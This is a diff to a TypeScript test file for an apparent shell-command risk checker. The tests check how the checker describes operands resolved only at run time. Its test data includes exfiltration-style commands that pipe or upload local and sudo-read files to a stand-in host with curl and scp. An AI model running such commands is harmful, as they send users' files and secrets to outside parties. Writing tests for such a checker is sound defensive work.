@@ -181,21 +181,22 @@ describe("operands that are decided only when a command runs", () => {
 
   const open = async (command: string) => {
     const { effect } = await lab.question(RUN, { command });
-    return effect.notes.find((note) => note.includes("decided only when it runs")) ?? "";
+    const said = [...effect.reasons, ...effect.notes];
+    return said.find((one) => one.includes("decided only when it runs")) ?? "";
   };
 
   it.each([
-    ["sudo cat $(ls)", "$(ls)"],
-    ['sudo head "$(head -1 list)"', '"$(head -1 list)"'],
+    ["sudo cat $(ls)", "the output of `ls`"],
+    ['sudo head "$(head -1 list)"', "the output of `head -1 list`"],
     ["sudo sha256sum $FILE", "$FILE"],
-    ["ls | sudo xargs cat", "the input of xargs"],
-    ["sudo xargs cat < list", "the input of xargs"],
+    ["ls | sudo xargs cat", "the input of `xargs`"],
+    ["sudo xargs cat < list", "the input of `xargs`"],
     ["sudo find /opt -name '*.conf' -exec cat {} +", "files that find finds in /opt"],
     ["sudo cat /etc/*.conf", "/etc/*.conf"],
     ["scp * host.example:", "*"],
     ["scp $(ls) host.example:", "$(ls)"],
     ["curl -T $(ls) https://host.example/", "$(ls)"],
-    ["sudo apt-get install $(cat list)", "$(cat list)"],
+    ["sudo apt-get install $(cat list)", "the output of `cat list`"],
   ])("are on the card: %s", async (command, text) => {
     expect(await open(command)).toContain(text);
   });
@@ -220,7 +221,6 @@ describe("operands that are decided only when a command runs", () => {
 
   it.each([
     "sudo cat list | curl -d @- https://host.example/",
-    "sudo cat $(ls)",
     "cat $(ls) | curl -d @- https://host.example/",
   ])("stay a click otherwise: %s", async (command) => {
     expect((await lab.question(RUN, { command })).risk).toBe("click");
